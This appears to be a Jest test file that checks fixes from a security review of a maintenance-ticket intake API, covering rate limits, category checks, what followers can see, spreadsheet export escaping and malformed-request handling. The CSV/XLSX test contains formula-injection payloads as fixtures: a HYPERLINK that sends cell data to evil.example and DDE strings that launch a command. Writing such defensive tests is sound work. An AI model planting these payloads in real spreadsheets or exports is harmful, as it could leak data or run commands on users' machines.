import { randomInt } from 'node:crypto';
import { parse as parseCsv } from 'csv-parse/sync';
import { DRIVERS, startTestSystem, type TestSystem } from './helpers/system';
import { auth, makeAsset, makeTenant, makeUser, type TestTenant } from './helpers/factories';
import { errorOf, fileTicket, waitForOffer } from './helpers/contract';
import { RawClient } from './helpers/raw-http';
import { Asset } from '../src/modules/assets/asset.entity';
import { Ticket } from '../src/modules/tickets/ticket.entity';

/** Security review, findings 2 (per-asset limit), 3 (CSV injection), 7 (malformed URLs, methods), 9 (followers), 10 (categories). */
describe.each(DRIVERS)('public intake security on %s', (driver) => {
  let sys: TestSystem;
  let tenant: TestTenant;
  beforeAll(async () => {
    sys = await startTestSystem(driver, { env: { TRUST_PROXY: 'true', RATE_LIMIT_TICKETS_PER_ASSET: '2' } });
    tenant = await makeTenant(sys.deps);
  });
  afterAll(async () => {
    await sys.stop();
  });
  const net = `10.${randomInt(256)}.${randomInt(256)}`;
  let n = 0;
  const file = (body: Record<string, unknown>) =>
    sys.http
      .post('/api/public/tickets')
      .set('Idempotency-Key', `sec-${driver}-${(n += 1)}-${randomInt(1e9)}`)
      .set('X-Forwarded-For', `${net}.${n % 250}`)
      .send(body);

  it('finding 2: 29 refused requests on an asset do not use up its hourly allowance; only stored tickets count', async () => {
    const asset = await makeAsset(sys.deps, tenant.id, tenant.siteIds[0]);
    for (let i = 0; i < 29; i += 1) await file({ assetCode: asset.code, contactPhone: '13800000000' }).expect(400);
    await file({ assetCode: asset.code, description: '真的坏了 1', contactPhone: '13800000000' }).expect(201);
    await file({ assetCode: asset.code, description: '真的坏了 2', contactPhone: '13800000000' }).expect(201);
    const third = await file({ assetCode: asset.code, description: '真的坏了 3', contactPhone: '13800000000' }).expect(429);
    expect(third.body.error.details.rule).toBe('tickets-asset');
  });

  describe('finding 10: categories', () => {
    it("refuses a category that none of the tenant's assets carries with 400 CATEGORY_NOT_ALLOWED, storing nothing", async () => {
      const asset = await makeAsset(sys.deps, tenant.id, tenant.siteIds[0], { category: '空调' });
      const res = await file({
        assetCode: asset.code,
        description: '漏水',
        contactPhone: '13800000000',
        category: 'VIP-加急-总经理',
      }).expect(400);
      expect(res.body.error).toMatchObject({ code: 'CATEGORY_NOT_ALLOWED', details: { category: 'VIP-加急-总经理' } });
      expect(await sys.deps.db.ds.getRepository(Ticket).countBy({ assetId: asset.id })).toBe(0);
    });

    it("files under the asset's category by default, and under another of the tenant's categories when named", async () => {
      const other = await makeTenant(sys.deps);
      await makeAsset(sys.deps, other.id, other.siteIds[0], { category: '保密类别' });
      const ac = await makeAsset(sys.deps, tenant.id, tenant.siteIds[0], { category: '空调' });
      const lift = await makeAsset(sys.deps, tenant.id, tenant.siteIds[1], { category: '电梯' });
      const byDefault = await file({ assetCode: ac.code, description: '不制冷', contactPhone: '13800000000' }).expect(201);
      const named = await file({ assetCode: ac.code, description: '电源', contactPhone: '13800000000', category: '电梯' }).expect(201);
      // Another tenant's category is no category of this one.
      await file({ assetCode: lift.code, description: 'x', contactPhone: '13800000000', category: '保密类别' }).expect(400);
      const repo = sys.deps.db.ds.getRepository(Ticket);
      expect((await repo.findOneByOrFail({ number: byDefault.body.ticket.number, tenantId: tenant.id })).category).toBe('空调');
      expect((await repo.findOneByOrFail({ number: named.body.ticket.number, tenantId: tenant.id })).category).toBe('电梯');
    });
  });

  it('finding 9: a follower sees statuses and times only: no reopen reason, no engineer notes, no engineer', async () => {
    const t = await makeTenant(sys.deps, { dispatchMode: 'auto' });
    const asset = await makeAsset(sys.deps, t.id, t.siteIds[0], { category: '空调' });
    const engineer = await makeUser(sys.deps, t.id, 'engineer', { name: '工程师小王', skills: ['空调'] });
    const filed = await fileTicket(sys.http, `follow-sec-${driver}-${randomInt(1e9)}`, {
      assetCode: asset.code,
      description: '空调不制冷',
      contactPhone: '13800000000',
    });
    await waitForOffer(sys.http, engineer.token, filed.number);
    for (const [action, body] of [
      ['accept', {}],
      ['travel', {}],
      ['arrive', {}],
      ['resolve', { notes: '已修好，有问题打我 13912345678' }],
    ] as const) {
      await sys.http.post(`/api/engineer/jobs/${filed.number}/${action}`).set(auth(engineer.token)).send(body).expect(200);
    }
    await sys.http.post(`/api/public/tickets/${filed.trackingToken}/reopen`).send({ reason: '还是坏的，请回电 13700001111' }).expect(200);
    const scan = await sys.http.get(`/api/public/assets/${asset.code}`).expect(200);
    const followToken = scan.body.openTickets.find((o: { number: string }) => o.number === filed.number).followToken as string;

    const followed = (await sys.http.get(`/api/public/tickets/${followToken}`).expect(200)).body.ticket;
    expect(followed.viewer).toBe('follower');
    expect(followed.events.map((e: { type: string }) => e.type)).toEqual(expect.arrayContaining(['created', 'resolved', 'reopened']));
    for (const e of followed.events) expect(Object.keys(e).sort()).toEqual(['at', 'type']);
    expect(followed.engineer).toBeUndefined();
    const text = JSON.stringify(followed);
    for (const secret of ['13912345678', '13700001111', '工程师小王', '已修好', '还是坏的']) expect(text).not.toContain(secret);

    // The reporter's own link still shows everything.
    const own = (await sys.http.get(`/api/public/tickets/${filed.trackingToken}`).expect(200)).body.ticket;
    expect(JSON.stringify(own)).toContain('13700001111');
  });

  it('finding 3: the asset CSV and XLSX exports neutralise cells a spreadsheet would run as formulas, and import back unchanged', async () => {
    const t = await makeTenant(sys.deps);
    const hostile = {
      name: '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
      model: "+cmd|' /C calc'!A0",
      location: "@SUM(1+1)*cmd|' /C calc'!A0",
      serial: "-2+3+cmd|' /C calc'!A0",
      category: '\t=1+1',
    };
    const asset = await makeAsset(sys.deps, t.id, t.siteIds[0]);
    await sys.deps.db.ds.getRepository(Asset).update({ id: asset.id }, hostile);
    const csv = await sys.http.get('/api/assets/export?format=csv').set(auth(t.dispatcher.token)).buffer(true).expect(200);
    const rows = parseCsv(csv.text.replace(/^\ufeff/, ''), { relax_column_count: true }) as string[][];
    const cells = rows.slice(1).flat();
    for (const value of Object.values(hostile)) expect(cells).toContain(`'${value}`);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const preview = await sys.http
      .post('/api/assets/import?mode=preview')
      .set(auth(t.dispatcher.token))
      .attach('file', Buffer.from(csv.text), 'assets.csv')
      .expect(200);
    expect(JSON.stringify(preview.body)).not.toContain("'=HYPERLINK");

    const xlsx = await sys.http
      .get('/api/assets/export?format=xlsx')
      .set(auth(t.dispatcher.token))
      .buffer(true)
      .parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      })
      .expect(200);
    const { Workbook } = await import('exceljs');
    const book = new Workbook();
    await book.xlsx.load(new Uint8Array(xlsx.body as Buffer).buffer);
    const values: string[] = [];
    book.worksheets[0].eachRow((row, line) => {
      if (line > 1) row.eachCell((c) => values.push(String(c.value)));
    });
    expect(values).toContain(`'${hostile.name}`);
    for (const v of values) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  describe('finding 7: malformed URLs and unserved methods', () => {
    it('answers /%zz, /r/%ff and /api/public/assets/%E0%A4%A with 400 MALFORMED_URL in the error envelope, logging no error', async () => {
      const errors = jest.spyOn(sys.deps.log, 'error');
      const client = new RawClient(sys.baseUrl);
      try {
        for (const path of ['/%zz', '/r/%ff', '/api/public/assets/%E0%A4%A', '/api/public/tickets/%C0']) {
          const res = await client.send({ method: 'GET', path });
          expect([path, res.status, errorOf(res.json)?.code]).toEqual([path, 400, 'MALFORMED_URL']);
        }
      } finally {
        client.close();
      }
      expect(errors).not.toHaveBeenCalled();
      errors.mockRestore();
    });

    it('answers TRACE with 405 and WebDAV methods with 501, in the error envelope', async () => {
      const client = new RawClient(sys.baseUrl);
      try {
        for (const [method, status, code] of [
          ['TRACE', 405, 'METHOD_NOT_ALLOWED'],
          ['PROPFIND', 501, 'NOT_IMPLEMENTED'],
          ['MKCOL', 501, 'NOT_IMPLEMENTED'],
          ['COPY', 501, 'NOT_IMPLEMENTED'],
          ['LOCK', 501, 'NOT_IMPLEMENTED'],
        ] as const) {
          for (const path of ['/', '/api/tickets', '/r/ABC']) {
            const res = await client.send({ method, path });
            expect([method, path, res.status, errorOf(res.json)?.code]).toEqual([method, path, status, code]);
          }
        }
      } finally {
        client.close();
      }
    });
  });
});
